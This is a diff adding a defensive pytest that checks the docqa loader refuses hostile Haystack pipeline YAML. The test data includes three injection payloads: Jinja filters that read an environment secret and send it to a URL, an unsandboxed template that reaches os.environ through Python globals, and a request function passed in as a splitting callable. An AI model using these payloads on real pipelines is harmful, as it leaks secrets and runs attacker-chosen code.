@@ -24,6 +24,7 @@ from docqa.pipelines.yaml_strategies import (
 )
 from docqa.runtime import Runtime
 from docqa.settings import Settings
+from tests.support.loopback_http import LoopbackSite, reply
 from tests.support.scripted_chat import ScriptedChatGenerator
 from tests.support.server_app import auth, build_test_app
 
@@ -187,6 +188,56 @@ class TestRefusedAtLoad:
         message = _refused(text, tmp_path)
         assert message.startswith(f"{tmp_path / 'hostile.yaml'}: line 3: way_out has type {kind!r}")
         assert reason in message
+
+    @pytest.mark.parametrize(
+        "component",
+        [
+            # Haystack's own callables as Jinja filters: one reads the audit key, the other sends it to the host.
+            """\
+          leak:
+            type: haystack.components.converters.output_adapter.OutputAdapter
+            init_parameters:
+              template: "{{ 1 | send(method='GET', url='URL?k=' ~ (('DOCQA_AUDIT_HMAC_KEY' | env).resolve_value())) }}"
+              output_type: str
+              custom_filters:
+                env: haystack.utils.auth.Secret.from_env_var
+                send: haystack.utils.requests_utils.request_with_retry
+        """,
+            # An unsandboxed template reaches the process's globals.
+            """\
+          leak:
+            type: haystack.components.routers.conditional_router.ConditionalRouter
+            init_parameters:
+              unsafe: true
+              routes:
+              - condition: "{{ true }}"
+                output: "{{ cycler.__init__.__globals__.os.environ }}"
+                output_name: out
+                output_type: str
+        """,
+            # A callable named by the file runs on every document.
+            """\
+          leak:
+            type: haystack.components.preprocessors.document_splitter.DocumentSplitter
+            init_parameters:
+              split_by: function
+              splitting_function: haystack.utils.requests_utils.request_with_retry
+        """,
+        ],
+        ids=["filters", "unsafe-template", "splitting-function"],
+    )
+    def test_code_named_by_the_file_is_refused_and_reaches_nobody(self, tmp_path, monkeypatch, component):
+        # Allow-listed component types may still run what the file names: Haystack's safe loading refuses
+        # custom filters, unsandboxed templates and callables from a file, and docqa never loads unsafe.
+        monkeypatch.setenv("DOCQA_AUDIT_HMAC_KEY", "the-audit-key-0123456789")
+        with LoopbackSite({"*": reply(b"ok", "text/plain")}) as elsewhere:
+            text = "components:\n" + textwrap.indent(textwrap.dedent(component), "  ").replace(
+                "URL", elsewhere.url("/k")
+            )
+            message = _refused(text, tmp_path)
+            assert message.startswith(f"{tmp_path / 'hostile.yaml'}: ")
+            assert "leak" in message
+            assert elsewhere.hits == []
 
     def test_a_client_a_component_builds_by_default_is_refused(self, tmp_path, monkeypatch):
         # LLMRanker builds an OpenAIChatGenerator when given none; nothing is called before the refusal.
